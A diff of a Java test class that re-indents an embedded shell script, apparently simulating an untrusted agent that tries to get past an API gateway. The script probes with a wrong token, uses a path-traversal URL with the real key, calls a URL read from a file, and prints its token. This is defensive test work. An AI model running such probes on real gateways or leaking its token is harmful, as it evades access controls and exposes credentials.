@@ -78,20 +78,20 @@ class OutsideAgentTest {
   /// Takes what it can get past the gateway, without its token, and out of what it was given.
   private static String thief() {
     return """
-        knock() { python3 - "$1" "$2" <<'END'
-        import sys, urllib.request
-        request = urllib.request.Request(sys.argv[1], b'{}', {"Authorization": "Bearer " + sys.argv[2]})
-        try:
-          urllib.request.urlopen(request, timeout=5); print("IN")
-        except Exception as e: print("OUT", getattr(e, "code", "none"))
-        END
-        }
-        knock "$URL/v1/chat/completions" wrong
-        knock "$URL/../api/v1/runs" "$KEY"
-        knock "$(cat %s)" "$KEY"
-        echo "my token is $KEY"
-        printf two > out.txt
-        """
+    knock() { python3 - "$1" "$2" <<'END'
+    import sys, urllib.request
+    request = urllib.request.Request(sys.argv[1], b'{}', {"Authorization": "Bearer " + sys.argv[2]})
+    try:
+      urllib.request.urlopen(request, timeout=5); print("IN")
+    except Exception as e: print("OUT", getattr(e, "code", "none"))
+    END
+    }
+    knock "$URL/v1/chat/completions" wrong
+    knock "$URL/../api/v1/runs" "$KEY"
+    knock "$(cat %s)" "$KEY"
+    echo "my token is $KEY"
+    printf two > out.txt
+    """
         .formatted("$MUSTER_TARGET/url");
   }
 
